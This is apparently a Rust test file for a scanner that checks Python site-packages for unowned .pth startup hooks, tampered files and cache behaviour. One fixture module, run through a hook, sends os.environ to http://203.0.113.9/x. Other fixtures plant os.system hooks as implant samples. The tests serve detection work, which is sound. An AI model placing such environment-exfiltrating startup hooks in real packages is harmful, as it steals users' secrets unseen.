use std::path::Path;

use super::*;

fn write(root: &Path, rel: &str, data: &str) {
    let p = root.join(rel);
    fs_err::create_dir_all(p.parent().unwrap()).unwrap();
    fs_err::write(p, data).unwrap();
}

fn record_row(root: &Path, rel: &str) -> String {
    use base64::Engine as _;
    use sha2::Digest as _;
    let data = fs_err::read(root.join(rel)).unwrap();
    let digest =
        base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(sha2::Sha256::digest(&data));
    format!("{rel},sha256={digest},{}\n", data.len())
}

/// A distribution `name` with `files`, listed in its RECORD.
fn dist(root: &Path, name: &str, files: &[(&str, &str)]) {
    let meta = format!("{name}-1.0.dist-info");
    write(
        root,
        &format!("{meta}/METADATA"),
        &format!("Name: {name}\nVersion: 1.0\n"),
    );
    let mut record = String::new();
    for (rel, data) in files {
        write(root, rel, data);
        record += &record_row(root, rel);
    }
    record += &record_row(root, &format!("{meta}/METADATA"));
    record.push_str(&meta);
    record.push_str("/RECORD,,\n");
    write(root, &format!("{meta}/RECORD"), &record);
}

const HOOK: &str = "import _distutils_hack; _distutils_hack.add_shim()\n";
const HACK: &str = "def add_shim():\n    pass\n";

fn codes(env: &Environment) -> Vec<&str> {
    env.report
        .findings
        .iter()
        .map(|f| f.code.as_str())
        .collect()
}

#[test]
fn a_listed_hook_is_owned_however_large_the_environment() {
    let t = tempfile::tempdir().unwrap();
    let root = t.path();
    // More files than one folder read keeps (20,000 members), sorted
    // between the hook and its owner: that read sees the hook, never the
    // RECORD that lists it (setuptools' case).
    let files: Vec<(String, &str)> = (0..20_100)
        .map(|i| (format!("mmm_big/m{i:05}.py"), "x = 1\n"))
        .collect();
    let refs: Vec<(&str, &str)> = files.iter().map(|(p, d)| (p.as_str(), *d)).collect();
    dist(root, "aaa_small", &[("aaa_small/__init__.py", "x = 1\n")]);
    dist(root, "mmm_big", &refs);
    dist(
        root,
        "zz_setuptools",
        &[
            ("distutils-precedence.pth", HOOK),
            ("_distutils_hack/__init__.py", HACK),
        ],
    );
    // Control: the whole-folder read stops early and calls the hook an implant.
    let folder = crate::archive::read(root, &Options::default().limits()).unwrap();
    let old = analysis::inspect(&folder);
    assert_eq!(old.verdict, Verdict::Malicious, "{:?}", old.reasons);
    assert!(old.findings.iter().any(|f| f.code == ORPHAN));
    let env = inspect(root, Options::default(), None).unwrap();
    assert!(env.files > 20_100, "{}", env.files);
    assert_eq!(
        env.report.verdict,
        Verdict::Clean,
        "{:?}",
        env.report.reasons
    );
    assert!(!codes(&env).contains(&ORPHAN.as_str()));
    assert!(env.unread.is_empty(), "{:?}", env.unread);
}

#[test]
fn an_unlisted_hook_is_an_implant_named_by_file() {
    let t = tempfile::tempdir().unwrap();
    let root = t.path();
    dist(root, "requests", &[("requests/__init__.py", "x = 1\n")]);
    write(root, "zzz_init.pth", "import os; os.system('true')\n");
    let env = inspect(root, Options::default(), None).unwrap();
    assert_eq!(env.report.verdict, Verdict::Malicious);
    assert!(
        env.report
            .reasons
            .iter()
            .any(|r| r.contains("no distribution owns") && r.contains("zzz_init.pth")),
        "{:?}",
        env.report.reasons
    );
}

#[test]
fn an_unreadable_owner_makes_an_unlisted_hook_unjudged_not_an_implant() {
    let t = tempfile::tempdir().unwrap();
    let root = t.path();
    dist(root, "requests", &[("requests/__init__.py", "x = 1\n")]);
    // An egg-info with no installed-files.txt: what it owns is unknown.
    write(
        root,
        "oldpkg-1.0.egg-info/PKG-INFO",
        "Name: oldpkg\nVersion: 1.0\n",
    );
    write(root, "oldpkg.pth", "import oldpkg_hook\n");
    let env = inspect(root, Options::default(), None).unwrap();
    assert!(
        !codes(&env).contains(&ORPHAN.as_str()),
        "{:?}",
        env.report.reasons
    );
    assert!(
        env.unread
            .iter()
            .any(|u| u.path == "oldpkg.pth" && u.reason.contains("not judged")),
        "{:?}",
        env.unread
    );
    assert!(
        env.unread
            .iter()
            .any(|u| u.path == "oldpkg-1.0.egg-info/installed-files.txt"),
        "{:?}",
        env.unread
    );
}

#[test]
fn an_unlisted_pth_of_folders_only_runs_no_code() {
    let t = tempfile::tempdir().unwrap();
    let root = t.path();
    dist(root, "requests", &[("requests/__init__.py", "x = 1\n")]);
    write(root, "easy-install.pth", "/src/project\n./vendored\n");
    let env = inspect(root, Options::default(), None).unwrap();
    assert_eq!(
        env.report.verdict,
        Verdict::Clean,
        "{:?}",
        env.report.reasons
    );
    assert!(codes(&env).contains(&UNOWNED_PATHS.as_str()));
}

#[test]
fn egg_info_lists_own_their_files() {
    let t = tempfile::tempdir().unwrap();
    let root = t.path();
    write(root, "legacy/__init__.py", "x = 1\n");
    write(root, "legacy.pth", "import legacy\n");
    write(root, "legacy-1.0.egg-info/PKG-INFO", "Name: legacy\n");
    write(
        root,
        "legacy-1.0.egg-info/installed-files.txt",
        "../legacy/__init__.py\n../legacy.pth\nPKG-INFO\n",
    );
    dist(root, "requests", &[("requests/__init__.py", "x = 1\n")]);
    let env = inspect(root, Options::default(), None).unwrap();
    assert_eq!(
        env.report.verdict,
        Verdict::Clean,
        "{:?}",
        env.report.reasons
    );
    assert!(env.unread.is_empty(), "{:?}", env.unread);
    assert_eq!(env.groups, 2);
}

#[test]
fn a_hook_reads_the_module_it_imports_from_another_distribution() {
    let t = tempfile::tempdir().unwrap();
    let root = t.path();
    dist(root, "aaa_hooks", &[("aaa.pth", "import zzz_payload\n")]);
    dist(
        root,
        "zzz_payload",
        &[(
            "zzz_payload/__init__.py",
            "import os, urllib.request\nurllib.request.urlopen('http://203.0.113.9/x', data=str(os.environ).encode())\n",
        )],
    );
    let env = inspect(root, Options::default(), None).unwrap();
    assert!(
        env.report
            .findings
            .iter()
            .any(|f| f.path == "zzz_payload/__init__.py" && f.phase == Phase::Startup),
        "{:#?}",
        env.report.findings
    );
}

#[test]
fn the_cache_serves_an_unchanged_environment_and_misses_a_tampered_file() {
    let t = tempfile::tempdir().unwrap();
    let root = t.path().join("site-packages");
    dist(&root, "requests", &[("requests/__init__.py", "x = 1\n")]);
    dist(&root, "urllib3", &[("urllib3/__init__.py", "y = 2\n")]);
    let cache = Cache::new(t.path().join("cache"));
    let cold = inspect(&root, Options::default(), Some(&cache)).unwrap();
    assert_eq!((cold.cached, cold.report.verdict), (0, Verdict::Clean));
    let warm = inspect(&root, Options::default(), Some(&cache)).unwrap();
    assert_eq!(warm.cached, warm.groups);
    // Tampered after install, RECORD untouched, same size: a miss, and found.
    write(&root, "requests/__init__.py", "x = 9\n");
    let after = inspect(&root, Options::default(), Some(&cache)).unwrap();
    assert_eq!(after.cached, after.groups - 1);
    assert!(
        after
            .report
            .findings
            .iter()
            .any(|f| f.code.as_str() == "custody::record-mismatch"
                && f.path == "requests/__init__.py"),
        "{:?}",
        after.report.findings
    );
    // What the cache gives back is what was computed.
    let again = inspect(&root, Options::default(), Some(&cache)).unwrap();
    assert_eq!(again.cached, again.groups);
    assert_eq!(again.report.findings, after.report.findings);
    assert_eq!(again.report.reasons, after.report.reasons);
    // A new hook is seen on a warm cache too.
    write(&root, "zz.pth", "import os; os.system('true')\n");
    let hooked = inspect(&root, Options::default(), Some(&cache)).unwrap();
    assert_eq!(hooked.report.verdict, Verdict::Malicious);
}

#[test]
fn a_cache_entry_that_does_not_parse_is_a_miss() {
    let t = tempfile::tempdir().unwrap();
    let root = t.path().join("site-packages");
    dist(&root, "requests", &[("requests/__init__.py", "x = 1\n")]);
    let cache = Cache::new(t.path().join("cache"));
    inspect(&root, Options::default(), Some(&cache)).unwrap();
    for e in walkdir::WalkDir::new(cache.dir()) {
        let e = e.unwrap();
        if e.file_type().is_file() {
            fs_err::write(e.path(), "{ truncated").unwrap();
        }
    }
    let env = inspect(&root, Options::default(), Some(&cache)).unwrap();
    assert_eq!(env.cached, 0);
}

#[test]
fn normalise_keeps_inside_paths_only() {
    assert_eq!(normalise("a/./b/../c").as_deref(), Some("a/c"));
    assert_eq!(
        normalise("x.egg-info/../pkg/m.py").as_deref(),
        Some("pkg/m.py")
    );
    assert_eq!(normalise("../../../bin/tool"), None);
}

#[test]
fn a_file_over_the_bound_is_named_as_read_in_part() {
    let t = tempfile::tempdir().unwrap();
    let root = t.path();
    let big = "x = 1\n".repeat(3_000_000); // 18 MB of Python
    dist(root, "huge", &[("huge/__init__.py", &big)]);
    let env = inspect(root, Options::default(), None).unwrap();
    assert!(
        env.unread
            .iter()
            .any(|u| u.path == "huge/__init__.py" && u.reason.contains("only the first 16 MiB")),
        "{:?}",
        env.unread
    );
    // Its digest was checked whole: no mismatch, a clean verdict.
    assert_eq!(
        env.report.verdict,
        Verdict::Clean,
        "{:?}",
        env.report.reasons
    );
}

#[test]
fn with_no_list_of_files_anywhere_a_hook_is_reported_not_judged() {
    let t = tempfile::tempdir().unwrap();
    let root = t.path();
    // Debian's dist-packages style: metadata files, no file lists.
    write(root, "six-1.16.0.egg-info", "Name: six\nVersion: 1.16.0\n");
    write(root, "six.py", "x = 1\n");
    write(root, "hook.pth", "import six\n");
    let env = inspect(root, Options::default(), None).unwrap();
    assert!(
        !codes(&env).contains(&ORPHAN.as_str()),
        "{:?}",
        env.report.reasons
    );
    assert!(
        env.unread
            .iter()
            .any(|u| u.path == "hook.pth" && u.reason.contains("not judged")),
        "{:?}",
        env.unread
    );
}
